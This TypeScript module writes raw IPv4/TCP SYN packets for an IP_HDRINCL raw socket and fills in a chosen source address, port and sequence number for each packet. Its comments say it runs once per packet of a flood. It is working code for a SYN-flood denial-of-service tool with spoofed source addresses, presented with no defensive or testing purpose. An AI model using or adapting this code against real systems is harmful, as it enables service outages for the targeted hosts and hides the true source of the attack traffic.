/** The bytes of SYNs, as a raw socket (IP_HDRINCL) takes them. Numbers from RFC 9293 and RFC 1071. */

const IP_BYTES = 20
/** MSS, SACK permitted, timestamps, window scale: what Linux itself sends. */
const OPTIONS = [2, 4, 1460 >> 8, 1460 & 255, 4, 2, 8, 10, 0, 0, 16, 0, 0, 0, 0, 0, 1, 3, 3, 7]
const TCP_BYTES = 20 + OPTIONS.length
export const SYN_BYTES = IP_BYTES + TCP_BYTES

const SOURCE_AT = 12
const TARGET_AT = 16
const PORT_AT = IP_BYTES
const SEQUENCE_AT = IP_BYTES + 4
const CHECKSUM_AT = IP_BYTES + 16
const SYN = 0x02
const PROTOCOL_TCP = 6

/** Writes what all SYNs to one target share; source address, source port, sequence number and checksum stay 0. */
export function writeTemplate(packet: Buffer, target: { address: Buffer; port: number }): void {
  packet.fill(0)
  packet[0] = 0x45
  packet.writeUInt16BE(SYN_BYTES, 2)
  packet.writeUInt16BE(0x4000, 6) // don't fragment
  packet[8] = 64
  packet[9] = PROTOCOL_TCP // the kernel fills in the header's checksum (raw_send_hdrinc)
  target.address.copy(packet, TARGET_AT)
  packet.writeUInt16BE(target.port, PORT_AT + 2)
  packet[IP_BYTES + 12] = (TCP_BYTES / 4) << 4
  packet[IP_BYTES + 13] = SYN
  packet.writeUInt16BE(64_240, IP_BYTES + 14)
  packet.set(OPTIONS, IP_BYTES + 20)
}

/** The sum of the template's 16-bit words under the TCP checksum, pseudo-header included. */
export function templateSum(template: Buffer): number {
  let sum = PROTOCOL_TCP + TCP_BYTES
  for (let at = SOURCE_AT; at < SYN_BYTES; at += 2) if (at !== CHECKSUM_AT) sum += template.readUInt16BE(at)
  return sum
}

/**
 * Makes a template a SYN of its own. Only four words differ from packet to packet, so the checksum is the template's
 * sum plus those. Written byte by byte: this runs once per packet of a flood.
 */
export function writeSyn(packet: Buffer, sum: number, source: number, port: number, sequence: number): void {
  packet[SOURCE_AT] = source >>> 24
  packet[SOURCE_AT + 1] = source >>> 16
  packet[SOURCE_AT + 2] = source >>> 8
  packet[SOURCE_AT + 3] = source
  packet[PORT_AT] = port >>> 8
  packet[PORT_AT + 1] = port
  packet[SEQUENCE_AT] = sequence >>> 24
  packet[SEQUENCE_AT + 1] = sequence >>> 16
  packet[SEQUENCE_AT + 2] = sequence >>> 8
  packet[SEQUENCE_AT + 3] = sequence
  let total = sum + (source >>> 16) + (source & 0xffff) + port + (sequence >>> 16) + (sequence & 0xffff)
  total = (total & 0xffff) + (total >>> 16)
  total = (total & 0xffff) + (total >>> 16)
  packet[CHECKSUM_AT] = ~total >>> 8
  packet[CHECKSUM_AT + 1] = ~total
}
